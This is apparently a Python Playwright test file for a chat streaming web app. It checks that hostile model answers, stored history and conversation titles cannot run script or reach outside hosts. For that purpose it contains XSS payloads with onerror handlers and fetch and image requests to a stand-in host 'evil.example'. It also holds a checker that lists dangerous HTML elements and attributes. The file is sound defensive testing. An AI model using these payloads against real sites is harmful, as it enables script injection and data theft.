"""Answers of a hostile model: no script runs, no request leaves the origin, and the page stays intact."""

from __future__ import annotations

import pytest
from playwright.async_api import expect

from aiochatstream import ChatStream, GenerationParams
from tests.page.attacks import ATTACKS
from tests.page.chat_page import ChatPage
from tests.page.engines import echo_chunks
from tests.page.fixtures import StartServer, Visit

pytestmark = pytest.mark.asyncio(loop_scope="session", loop_factories=["asyncio"])

VIOLATIONS = """() => {
  const violations = window.hacked === undefined ? [] : ["a script ran"];
  const elements = "script, style, link, meta, base, iframe, object, embed, form, input, svg *, math, video, audio, " +
    "template, details, picture, dialog, canvas";
  for (const answer of document.querySelectorAll("[data-role=answer], [data-role=message]")) {
    for (const element of answer.querySelectorAll(elements)) {
      if (!element.closest("button")) violations.push(element.outerHTML); // icons of the page's own buttons
    }
    for (const element of answer.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        const allowed = name !== "style" && name !== "id" && name !== "name" && !name.startsWith("on");
        if (!allowed) violations.push(`${name}=${value}`);
      }
    }
    for (const element of answer.querySelectorAll("[href]")) {
      if (!/^(https?|mailto):/.test(element.href)) violations.push(`link to ${element.href}`);
      if (!/noopener/.test(element.rel) || !/noreferrer/.test(element.rel)) violations.push(`rel=${element.rel}`);
    }
    for (const element of answer.querySelectorAll("[src]")) {
      if (!/^data:image\\//.test(element.src)) violations.push(`source ${element.src}`);
    }
  }
  return violations;
}"""


async def test_attacks_run_no_script_and_make_no_request(start: StartServer, visit: Visit) -> None:
    server = await start(ChatStream(engine=echo_chunks, params=GenerationParams(max_new_tokens=100_000)))
    chat = ChatPage(await visit(server.url))
    chat.page.on("dialog", lambda dialog: pytest.fail(dialog.message))
    for name, attack in ATTACKS.items():
        await chat.ask(attack)
        assert await chat.page.evaluate(VIOLATIONS) == [], name
        await chat.page.locator("#new-chat").click()
    await chat.ask("- fine\n")
    await expect(chat.answer().locator("li")).to_have_text("fine")


async def test_attacks_in_the_history_are_harmless(start: StartServer, visit: Visit) -> None:
    server = await start(ChatStream(engine=echo_chunks, params=GenerationParams(max_new_tokens=100_000)))
    chat = ChatPage(await visit(server.url))
    context = chat.page.context
    pages = context.pages
    for attack in ATTACKS.values():
        answer = await context.request.post(
            f"{server.url}/chat_stream", data={"user_input": attack}, headers={"Accept": "application/json"}
        )
        assert answer.status == 200
    await chat.page.reload()
    await expect(chat.turns).to_have_count(len(ATTACKS))
    assert await chat.page.evaluate(VIOLATIONS) == []
    assert context.pages == pages
    await expect(chat.message).to_be_visible()


async def test_conversation_title_is_escaped(start: StartServer, visit: Visit) -> None:
    chat = ChatPage(await visit((await start(ChatStream(engine=echo_chunks))).url))
    title = '<img src=x onerror="window.hacked=1">'
    await chat.ask(title)
    await expect(chat.page.locator("#conversations")).to_contain_text(title)
    await expect(chat.page.locator("#heading")).to_have_text(title)
    assert await chat.page.evaluate("window.hacked") is None


async def test_content_security_policy_blocks_scripts_images_and_requests(
    start: StartServer, visit: Visit, problems: list[str]
) -> None:
    page = await visit((await start(ChatStream(engine=echo_chunks))).url)
    for attempt in (
        "document.body.append(Object.assign(document.createElement('script'), {textContent: 'window.hacked=1'}))",
        "document.body.append(Object.assign(new Image(), {src: 'https://evil.example/leak'}))",
        "fetch('https://evil.example/leak').catch(() => {})",
        "document.body.innerHTML = '<img src=x onerror=window.hacked=1>'",
        "document.body.style.color = 'red', document.body.setAttribute('style', 'color: red')",
        "setTimeout('window.hacked=1')",
    ):
        expression = f"(() => {{ try {{ {attempt} }} catch {{}} }})()"
        await page.evaluate(expression)
    assert await page.evaluate("window.hacked") is None
    assert any("violates" in problem for problem in problems)
    problems.clear()
